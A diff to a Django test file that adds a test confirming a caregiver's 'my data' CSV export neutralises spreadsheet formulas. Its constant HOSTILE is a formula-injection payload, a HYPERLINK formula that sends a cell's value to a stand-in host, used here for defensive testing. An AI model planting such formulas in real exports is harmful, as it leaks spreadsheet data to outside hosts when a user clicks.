@@ -8,7 +8,9 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from mantelkring.exports import csv_bytes, neutralise, xlsx_bytes
+from panel.models import Registration
 from sociale_kaart.models import Organisation
+from tests.panel.factories import PanelMemberFactory, SpiegelgesprekFactory
 from tests.werkgroep.factories import ActionPointFactory, make_poll
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"Klik hier")'
@@ -87,3 +89,17 @@ def test_poll_question_and_choice_texts_are_no_formulas(client, werkgroep_user, 
         values = [cell for row in reader for cell in row]
     assert "'+SUM(1,2)" in values
     assert "'-1+1" in values
+
+
+def test_my_data_csv_holds_no_formula(client, caregiver):
+    member = PanelMemberFactory(user=caregiver)
+    gesprek = SpiegelgesprekFactory()
+    Registration.objects.create(
+        gesprek=gesprek, user=caregiver, kind="caregiver", status="registered", topics=HOSTILE
+    )
+    assert member.user == caregiver
+    client.force_login(caregiver)
+    body = client.get(reverse("panel:export_csv")).content.decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + HOSTILE in cells
+    assert HOSTILE not in cells
